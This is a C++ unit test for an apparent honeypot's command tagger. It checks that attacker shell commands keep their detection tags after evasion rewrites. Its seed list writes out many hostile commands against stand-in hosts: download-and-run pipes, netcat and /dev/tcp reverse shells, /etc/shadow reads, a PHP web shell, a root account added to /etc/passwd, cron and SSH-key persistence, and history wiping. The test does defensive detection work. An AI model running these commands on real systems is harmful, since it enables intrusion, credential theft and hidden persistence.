// Commands keep their tags however they are written: every seed by every rewrite.
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "decnet/base/clock.h"
#include "decnet/tagging/tagger.h"
#include "tests/rewrites.h"
#include "tests/rule_pack.h"

namespace decnet::test {
namespace {

// What attackers do, in plain words: each line a behaviour, * in it one of several targets.
std::vector<std::string> seeds() {
  struct Family {
    const char* command;
    std::vector<const char*> targets;
  };
  const std::vector<Family> families = {
      {"wget http://192.0.2.*/x", {"1", "22", "133"}},
      {"wget -q -O /tmp/x http://192.0.2.1/*", {"a", "bins.sh", "d/e.tgz"}},
      {"wget 192.0.2.1/*", {"m", "i686", "arm7"}},
      {"curl -s http://192.0.2.1/* -o /tmp/x", {"a", "b.sh"}},
      {"curl -fsSL https://d.example/*", {"p", "q/r"}},
      {"curl -O http://192.0.2.1/*", {"a", "b.sh"}},
      {"tftp -g -r * 192.0.2.5", {"a", "mips"}},
      {"ftpget 192.0.2.5 * x", {"a", "sh4"}},
      {"scp bob@192.0.2.5:* /tmp", {"a", "d/b"}},
      {"wget -c http://192.0.2.9/*", {"s", "k.sh", "m/n", "x86", "u?v=1"}},
      {"curl http://192.0.2.9/*", {"s", "k.sh", "m/n", "x86"}},
      {"nl /etc/*", {"passwd", "shadow"}},
      {"more /etc/*", {"passwd", "shadow"}},
      {"tail -n 1 /etc/*", {"passwd", "shadow"}},
      {"find /var -perm -*", {"4000", "u=s", "/2000"}},
      {"rustscan -a 192.0.2.*", {"7", "8"}},
      {"hping3 -S 192.0.2.*", {"7", "8"}},
      {"nc -zv 192.0.2.7 *", {"21", "25", "3389"}},
      {"useradd *", {"svc", "-r svc", "-G sudo svc"}},
      {"tail -f /etc/*", {"passwd"}},
      {"cat /etc/*", {"passwd", "shadow", "issue", "os-release", "debian_version"}},
      {"head -n 3 /etc/*", {"passwd", "shadow"}},
      {"tail /etc/*", {"passwd", "shadow"}},
      {"grep root /etc/*", {"passwd", "shadow"}},
      {"less /etc/*", {"passwd", "shadow"}},
      {"find / -perm -*", {"4000", "u=s", "2000"}},
      {"find /usr -type f -perm -* -ls", {"4000", "2000"}},
      {"find * -name id_rsa", {"/", "/home", "/root", "/etc", "/var"}},
      {"find / -iname *.conf", {"my", "nginx"}},
      {"nmap -sS 192.0.2.0/*", {"24", "28"}},
      {"nmap -p * 192.0.2.7", {"22", "1-1000"}},
      {"masscan -p* 198.51.100.0/24", {"22", "80,443", "3306"}},
      {"zmap -p * 198.51.100.0/24", {"22", "23"}},
      {"nc -vz 192.0.2.7 *", {"80", "22", "1-100"}},
      {"nc -e /bin/sh 192.0.2.9 *", {"443", "53"}},
      {"nc 192.0.2.9 * -e sh", {"443", "53"}},
      {"ncat -e /bin/bash 192.0.2.9 *", {"443", "53"}},
      {"uname -*", {"a", "r", "m", "snrvm"}},
      {"lsb_release -*", {"a", "d"}},
      {"hostnamectl*", {"", " status"}},
      {"whoami*", {"", " --version"}},
      {"id*", {"", " -u", " -Gn"}},
      {"who*", {"", " -a"}},
      {"last*", {"", " -n 5", " root"}},
      {"users*", {""}},
      {"ip *", {"addr", "a", "route", "link show"}},
      {"ifconfig*", {"", " -a", " eth0"}},
      {"arp -*", {"a", "n"}},
      {"route -*", {"n", "e"}},
      {"netstat -*", {"an", "tlnp", "rn"}},
      {"ss -*", {"tulpn", "a"}},
      {"lsof -i*", {"", " tcp:80"}},
      {"ldapsearch -x -H ldap://*", {"d", "192.0.2.1"}},
      {"smbclient -L //192.0.2.*", {"3", "4"}},
      {"enum4linux 192.0.2.*", {"3", "4"}},
      {"nbtscan 192.0.2.0/*", {"24", "28"}},
      {"useradd -m *", {"sysd", "support", "-s /bin/bash bob"}},
      {"adduser *", {"sysd", "-D bob"}},
      {"crontab -*", {"e", "e -u root"}},
      {"crontab *", {"jobs.txt", "/tmp/c"}},
      {"redis-cli -h 192.0.2.1 config set dir *", {"/root/.ssh", "/var/spool/cron"}},
      {"history -c*", {"", "w"}},
      {"unset HISTFILE*", {"", " HISTSIZE"}},
      {"export HISTFILE=/dev/null*", {""}},
      {"rm -f ~/.bash_history*", {"", " x"}},
      {"sudo -*", {"l", "i", "s"}},
      {"sudo su*", {"", " -", " - root"}},
      {"perl -e print*", {"", "(1)"}},
      {"php -r phpinfo*", {""}},
      {"python3 -c print*", {""}},
      {"echo 'x * /bin/y' >> /etc/crontab", {"a", "b"}},
      {"echo '@reboot /x' > /etc/cron.d/*", {"job", "x"}},
      {"echo x > /var/spool/cron/*", {"root", "crontabs/root"}},
      {"echo 'z:x:0:0::/:/bin/sh' >> /etc/passwd*", {"", " "}},
      {"echo '<?php system($_GET[1]); ?>' > /var/www/html/*.php", {"x", "up"}},
      {"echo -n > ~/.bash_history*", {""}},
      {"bash -i >& /dev/tcp/192.0.2.9/* 0>&1", {"53", "443"}},
      {"cat /etc/passwd | *", {"wc -l", "grep root", "cut -d: -f1"}},
      {"cd /tmp; wget http://192.0.2.1/*; chmod +x *; ./*", {"x"}},
      {"cd /tmp && curl -O http://192.0.2.1/a && sh a*", {"", "; rm -f a"}},
      {"wget http://192.0.2.1/x; * x", {"sh", "bash", "chmod 777"}},
      {"curl http://192.0.2.1/i | *", {"sh", "bash"}},
      {"mkdir -p ~/.ssh; echo 'ssh-rsa AAAA * x' >> ~/.ssh/authorized_keys", {"b", "c"}},
      {"cp /bin/sh /tmp/*; chmod 4755 /tmp/s", {"s"}},
      {"ls -la /tmp; cat /etc/shadow*", {"", "; id"}},
      {"uname -a && cat /proc/cpuinfo && *", {"whoami", "id", "w"}},
      {"ps aux | grep x; netstat -*", {"an", "tulpn"}},
  };
  std::vector<std::string> all;
  for (const Family& family : families) {
    for (const char* target : family.targets) {
      std::string command;
      for (const char c : std::string_view(family.command)) {
        if (c == '*') {
          command += target;
        } else {
          command += c;
        }
      }
      if (std::find(all.begin(), all.end(), command) == all.end()) all.push_back(command);
    }
  }
  return all;
}

std::set<std::string> techniques(const tagging::Tagger& tagger, const std::string& text) {
  Event event;
  event.source_kind = "command";
  event.source_id = "e";
  event.attacker_uuid = "a";
  event.payload = Json::object({{"command_text", text}});
  std::set<std::string> ids;
  for (const Tag& tag : tagger.tag(event)) ids.insert(tag.most_specific().text());
  return ids;
}

TEST(Evasion, HasSeedsAndRewritesEnough) {
  const tagging::Tagger tagger(shipped_pack().rules, system_clock());
  std::size_t tagged = 0;
  for (const std::string& seed : seeds()) {
    const bool any = !techniques(tagger, seed).empty();
    EXPECT_TRUE(any) << seed;
    tagged += any ? 1 : 0;
  }
  EXPECT_GE(tagged, 200U);
  EXPECT_GE(rewrites().size(), 40U);
}

TEST(Evasion, LosesNoTagsInNineteenOfTwentyCases) {
  const tagging::Tagger tagger(shipped_pack().rules, system_clock());
  std::size_t cases = 0;
  std::size_t kept = 0;
  std::map<std::string, std::vector<std::string>> lost;  // by rewrite
  for (const std::string& seed : seeds()) {
    const auto wanted = techniques(tagger, seed);
    for (const Rewrite& rewrite : rewrites()) {
      const auto text = rewrite.apply(seed);
      if (!text) continue;
      ++cases;
      const auto found = techniques(tagger, *text);
      if (std::includes(found.begin(), found.end(), wanted.begin(), wanted.end())) {
        ++kept;
      } else {
        lost[rewrite.name].push_back(*text);
      }
    }
  }
  std::string report = fmt::format("{} of {} cases kept their tags\n", kept, cases);
  for (const auto& [name, texts] : lost) {
    report += fmt::format("{}: {} lost, such as {}\n", name, texts.size(), texts.front());
  }
  RecordProperty("cases", static_cast<int>(cases));
  RecordProperty("kept", static_cast<int>(kept));
  EXPECT_GE(kept * 100, cases * 95) << report;
  if (std::getenv("DECNET_TEST_REPORT") != nullptr) std::printf("%s", report.c_str());
}

}  // namespace
}  // namespace decnet::test
